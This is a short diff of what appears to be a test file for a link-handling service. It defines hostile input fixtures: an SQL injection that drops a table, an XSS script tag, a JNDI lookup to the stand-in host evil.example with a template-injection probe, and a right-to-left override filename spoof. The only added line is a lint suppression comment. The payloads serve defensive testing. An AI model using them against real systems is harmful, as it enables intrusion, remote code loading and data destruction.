@@ -28,6 +28,7 @@ const ONE = `${LINK}/${EXISTING}`
 
 const SQL = "x'; drop table links; --"
 const XSS = '<script>alert(1)</script>'
+// biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
 const TEMPLATE = '${jndi:ldap://evil.example/a}{{7*7}}'
 const RTL = 'https://example.com/\u202Egnp.exe'
 const HUGE = 'a'.repeat(70 * 1024)
